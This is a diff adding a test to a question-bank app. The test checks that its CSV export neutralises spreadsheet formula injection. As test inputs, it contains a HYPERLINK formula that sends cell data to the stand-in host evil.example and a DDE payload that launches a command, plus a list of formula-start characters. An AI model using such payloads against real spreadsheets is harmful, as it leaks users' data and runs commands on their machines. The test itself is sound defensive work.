@@ -1,5 +1,7 @@
 """The question bank: loading the fixtures, check_bank, export_bank and the demo command."""
 
+import csv
+import io
 from io import StringIO
 from pathlib import Path
 
@@ -87,3 +89,27 @@ def test_demo_sets_up_the_school_and_can_run_twice(db):
     client = Client()
     client.force_login(teacher)
     assert client.get(reverse("set_builder", args=[assignments.first().quiz_set.pk])).status_code == 200
+
+
+# -- export_bank --format csv is formula-safe ---------------------------------------------------------------------
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_export_bank_csv_shows_teachers_formulas_as_text(db, start):
+    """A teacher's question whose text starts like a formula: no cell of the CSV may start one."""
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    question = factories.QuestionFactory(
+        short_text=True, with_parts=False, prompt=attack, explanation=f" {start}cmd|' /C calc'!A0"
+    )
+    factories.AcceptedAnswerFactory(question=question, text=f"{start}1+1")
+    factories.CitationFactory(question=question, quote=f"{start}SUM(1+1)")
+    text = run("export_bank", "--format", "csv")
+    assert text.startswith("\ufeffid,")
+    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+    assert row["prompt"] == "'" + attack
+    assert row["answer"] == f"'{start}1+1"
+    assert row["evidence"] == f"'{start}SUM(1+1)"
+    assert row["explanation"] == f"' {start}cmd|' /C calc'!A0"
+    assert not any(cell.lstrip(" ").startswith(tuple(FORMULA_STARTS)) for cell in row.values())
